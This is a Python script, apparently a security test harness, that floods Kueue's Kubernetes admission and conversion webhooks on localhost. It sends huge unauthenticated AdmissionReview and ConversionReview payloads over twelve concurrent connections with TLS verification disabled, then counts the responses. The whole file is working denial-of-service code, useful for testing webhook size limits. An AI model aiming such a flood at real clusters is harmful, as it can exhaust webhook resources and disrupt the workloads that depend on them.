"""A hostile client of webhooks: `python flood.py PORT SORT`. Posts until its input ends, then prints what was answered.

Without credentials, over twelve connections at once, one hostile request after the other on each.
"""

from __future__ import annotations

import http.client
import json
import ssl
import sys
import threading
from collections import Counter
from collections.abc import Callable

CONNECTIONS = 12
GROUP = "kueue.x-k8s.io"


def _pod_sets(count: int, containers: int = 1) -> bytes:
    template = {"spec": {"containers": [{"name": f"c{i}", "resources": {}} for i in range(containers)]}}
    pod_sets = [{"name": f"p{i:06}", "count": 1, "template": template} for i in range(count)]
    metadata = {"name": "w", "namespace": "default"}
    tree = {"apiVersion": f"{GROUP}/v1beta2", "kind": "Workload", "metadata": metadata, "spec": {"podSets": pod_sets}}
    return _admission(tree)


def _admission(tree: object) -> bytes:
    request = {"uid": "1", "operation": "CREATE", "namespace": "default", "name": "w", "object": tree}
    return json.dumps({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": request}).encode()


def _conversion(count: int) -> bytes:
    objects = [{"apiVersion": f"{GROUP}/v1beta1", "kind": "LocalQueue", "metadata": {"name": "a"}}] * count
    request = {"uid": "1", "desiredAPIVersion": f"{GROUP}/v1beta2", "objects": objects}
    review = {"apiVersion": "apiextensions.k8s.io/v1", "kind": "ConversionReview", "request": request}
    return json.dumps(review, separators=(",", ":")).encode()


MUTATE = f"/mutate-{GROUP.replace('.', '-')}-v1beta2-workload"
# What is posted where: the requests of a report, and requests that stay below every bound on size and lists.
SORTS: dict[str, Callable[[], tuple[str, bytes]]] = {
    "pod-sets": lambda: (MUTATE, _pod_sets(40_000)),
    "conversions": lambda: ("/convert", _conversion(60_000)),
    "largest": lambda: (MUTATE, _pod_sets(60, 800)),
}


def main(port: int, sort: str) -> None:
    path, body = SORTS[sort]()
    answered: Counter[str] = Counter()
    over = threading.Event()

    def attack() -> None:
        tls = ssl.create_default_context()
        tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
        while not over.is_set():
            connection = http.client.HTTPSConnection("127.0.0.1", port, context=tls, timeout=60)
            try:
                while not over.is_set():
                    connection.request("POST", path, body, {"Content-Type": "application/json"})
                    answer = connection.getresponse()
                    answer.read()
                    answered[str(answer.status)] += 1
            except (OSError, http.client.HTTPException):
                answered["broken"] += 1
            finally:
                connection.close()

    threads = [threading.Thread(target=attack, daemon=True) for _ in range(CONNECTIONS)]
    for thread in threads:
        thread.start()
    print(json.dumps({"bytes": len(body)}), flush=True)
    sys.stdin.read()
    over.set()
    print(json.dumps(answered), flush=True)


if __name__ == "__main__":
    main(int(sys.argv[1]), sys.argv[2])
